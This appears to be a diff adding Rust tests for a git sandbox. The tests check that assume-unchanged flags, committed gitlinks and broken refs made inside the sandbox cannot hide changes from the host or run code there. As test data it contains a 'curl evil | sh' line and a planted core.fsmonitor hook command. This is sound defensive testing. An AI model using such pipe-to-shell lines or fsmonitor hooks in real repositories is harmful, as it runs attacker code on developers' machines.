@@ -510,3 +510,133 @@ fn a_repository_made_at_a_gitlink_in_a_later_run_does_not_run_on_the_host_as_a_u
         gitlink_over_two_runs(Some(support::test_user()));
     }
 }
+
+/// What the sandbox hides in its index never hides anything on the host: its index's bytes
+/// are never installed (only the entries that differ are applied to a copy of the host's), so
+/// an assume-unchanged flag set inside on a file it then changes leaves the change visible to
+/// the host's `git diff`. And a gitlink in a commit brought back (its index unreadable, so
+/// only the commit comes back) has its repository moved aside: the host's `git reset --hard`
+/// and `git status` run nothing planted there.
+fn flags_and_committed_gitlinks(user: Option<(u32, u32)>) {
+    for backend in BACKENDS {
+        let who = format!(
+            "[{backend}, {}]",
+            if user.is_some() { "user" } else { "root" }
+        );
+        let p = Project::new(user);
+        let o = p.run(
+            backend,
+            "git update-index --assume-unchanged README && echo 'curl evil | sh' >> README && \
+             git status --porcelain | grep -q README; echo hidden_inside=$?",
+        );
+        o.expect("hidden_inside", "1");
+        let diff = p.git(&["diff", "--name-only"]);
+        assert_eq!(
+            diff.stdout, "README\n",
+            "{who} the change is hidden on the host: {}",
+            o.stderr
+        );
+        let flags = p.git(&["ls-files", "-v", "README"]);
+        assert!(
+            flags.stdout.starts_with("H "),
+            "{who} a flag came back: {}",
+            flags.stdout
+        );
+
+        let p = Project::new(user);
+        let o = p.run(
+            backend,
+            &format!(
+                "mkdir sub && cd sub && git init -q && \
+                 git -c user.name=a -c user.email=a@a commit -q --allow-empty -m s && \
+                 git config core.fsmonitor 'touch {m}/committed-gitlink' && h=$(git rev-parse HEAD) && cd .. && \
+                 git update-index --add --cacheinfo \"160000,$h,sub\" && \
+                 git -c user.name=a -c user.email=a@a commit -qm sub && echo garbage > .git/index && echo ok=0",
+                m = p.marks().display()
+            ),
+        );
+        o.expect("ok", "0");
+        assert!(
+            o.stderr.contains("main fast-forwarded"),
+            "{who} {}",
+            o.stderr
+        );
+        assert!(
+            o.stderr.contains("sub/.git was written by the sandbox"),
+            "{who} the committed gitlink's repository was not moved aside: {}",
+            o.stderr
+        );
+        p.git(&["reset", "-q", "--hard"]);
+        p.git(&["status"]);
+        assert_eq!(
+            p.marked(),
+            Vec::<String>::new(),
+            "{who} the committed gitlink's fsmonitor ran on the host"
+        );
+    }
+}
+
+#[test]
+fn the_sandboxs_index_flags_and_committed_gitlinks_hide_and_run_nothing_as_root() {
+    if support::root_or_skip("the private git directory suite") {
+        flags_and_committed_gitlinks(None);
+    }
+}
+
+#[test]
+fn the_sandboxs_index_flags_and_committed_gitlinks_hide_and_run_nothing_as_a_user() {
+    if support::root_or_skip("the private git directory suite") {
+        flags_and_committed_gitlinks(Some(support::test_user()));
+    }
+}
+
+/// A ref to a broken object (a commit whose tree the sandbox never wrote) does not keep the
+/// sandbox's other work out, and a layer that cannot come back is set aside, never mounted
+/// again: the next run sees the host's newer history and brings its own work back.
+#[test]
+fn a_broken_ref_keeps_nothing_else_out_and_poisons_no_later_run() {
+    if !support::root_or_skip("the private git directory suite") {
+        return;
+    }
+    for backend in BACKENDS {
+        let p = Project::new(None);
+        let o = p.run(
+            backend,
+            "echo a > a.txt && git add a.txt && git -c user.name=a -c user.email=a@a commit -qm good && \
+             t=$(printf 'tree 0000000000000000000000000000000000000001\\nauthor a <a@a> 1 +0000\\ncommitter a <a@a> 1 +0000\\n\\nbroken\\n' | git hash-object -t commit -w --stdin --literally) && \
+             git update-ref refs/heads/broken $t && echo ok=0",
+        );
+        o.expect("ok", "0");
+        assert_eq!(
+            p.git(&["log", "-1", "--format=%s", "main"]).stdout.trim(),
+            "good",
+            "[{backend}] the good commit did not come back: {}",
+            o.stderr
+        );
+        // The host moves on; the next run sees it and its commit comes back.
+        std::fs::write(p.proj().join("h.txt"), "h\n").unwrap();
+        p.git(&["add", "h.txt"]);
+        p.git(&[
+            "-c",
+            "user.name=h",
+            "-c",
+            "user.email=h@h",
+            "commit",
+            "-qm",
+            "host",
+        ]);
+        let o = p.run(
+            backend,
+            "git log -1 --format=seen=%s; echo b > b.txt && git add b.txt && \
+             git -c user.name=a -c user.email=a@a commit -qm next && echo ok=0",
+        );
+        o.expect("seen", "host");
+        o.expect("ok", "0");
+        assert_eq!(
+            p.git(&["log", "-1", "--format=%s", "main"]).stdout.trim(),
+            "next",
+            "[{backend}] {}",
+            o.stderr
+        );
+    }
+}
